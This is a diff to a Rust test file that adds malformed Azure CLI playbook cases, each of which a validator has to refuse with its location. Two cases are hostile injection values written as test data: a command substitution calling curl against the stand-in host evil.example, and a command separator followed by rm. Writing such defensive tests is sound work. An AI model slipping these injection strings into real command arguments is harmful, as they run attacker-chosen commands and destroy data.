@@ -171,7 +171,7 @@ fn cases() -> Vec<Case> {
             "\"--name={target.name} --yes\", \"--resource-group",
             23,
             47,
-            "exactly",
+            "shell syntax",
         ),
         case(
             "reserved flag",
@@ -237,6 +237,126 @@ fn cases() -> Vec<Case> {
             114,
             "control",
         ),
+        case(
+            "duplicate key",
+            "title = \"Custom storage check\"",
+            "title = \"Custom storage check\"\ntitle = \"again\"",
+            4,
+            1,
+            "duplicate",
+        ),
+        case(
+            "reserved level name",
+            "name = \"account\"",
+            "name = \"target\"",
+            11,
+            8,
+            "target",
+        ),
+        case(
+            "bad condition on an argument",
+            "\"--encryption-key-source=Microsoft.Storage\"]",
+            "{ arg = \"--encryption-key-source=Microsoft.Storage\", when = \"before.encryption.keySource ==\" }]",
+            23,
+            205,
+            "JMESPath",
+        ),
+        case(
+            "after outside record",
+            "name = \"switch\"",
+            "name = \"switch\"\nafter = { \"encryption.requireInfrastructureEncryption\" = true }",
+            23,
+            9,
+            "record",
+        ),
+        case(
+            "az account set",
+            r#"["az", "storage", "account", "list"]"#,
+            r#"["az", "account", "set", "--name=x"]"#,
+            12,
+            8,
+            "az account set",
+        ),
+        case(
+            "az config",
+            r#"["az", "storage", "account", "list"]"#,
+            r#"["az", "config", "set", "core.output=table"]"#,
+            12,
+            8,
+            "az config",
+        ),
+        case(
+            "unknown key in a step",
+            "name = \"switch\"",
+            "name = \"switch\"\nshell = \"bash -c\"",
+            23,
+            1,
+            "shell",
+        ),
+        case(
+            "query flag",
+            "\"--encryption-key-source=Microsoft.Storage\"",
+            "\"--query=id\"",
+            23,
+            114,
+            "--query",
+        ),
+        case(
+            "short output flag",
+            "\"--encryption-key-source=Microsoft.Storage\"",
+            "\"-o\"",
+            23,
+            114,
+            "-o",
+        ),
+        case(
+            "id with capitals",
+            "id = \"custom-storage\"",
+            "id = \"Custom Storage\"",
+            2,
+            6,
+            "lower-case",
+        ),
+        case(
+            "unclosed placeholder",
+            "--name={target.name}\", \"--resource-group",
+            "--name={target.name\", \"--resource-group",
+            23,
+            55,
+            "never closed",
+        ),
+        case(
+            "read and reads both",
+            "refresh = [",
+            "read = [\"az\", \"storage\", \"account\", \"show\"]\nreads = { x = [\"az\", \"storage\", \"account\", \"show\"] }\nrefresh = [",
+            20,
+            9,
+            "either",
+        ),
+        case(
+            "command substitution",
+            "\"--encryption-key-source=Microsoft.Storage\"",
+            "\"--encryption-key-source=$(curl evil.example)\"",
+            23,
+            114,
+            "shell syntax",
+        ),
+        case(
+            "command separator",
+            "\"--encryption-key-source=Microsoft.Storage\"",
+            "\"--encryption-key-source=Microsoft.Storage;rm\"",
+            23,
+            114,
+            "shell syntax",
+        ),
+        case(
+            "skip rule on a field that cannot exist",
+            "[test]",
+            "[[discover.skip]]\nwhen = \"sku.tierr == 'System'\"\nreason = \"x\"\n\n[test]",
+            15,
+            9,
+            "tierr",
+        ),
     ]
 }
 
@@ -244,7 +364,10 @@ fn cases() -> Vec<Case> {
 fn each_malformed_playbook_is_refused_with_its_location() {
     let sim = Sim::new(&edge_world());
     let all = cases();
-    assert!(all.len() >= 10);
+    assert!(
+        all.len() >= 30,
+        "the hostile corpus holds at least 30 playbooks"
+    );
     let mut failures = Vec::new();
     for c in all {
         let path = sim
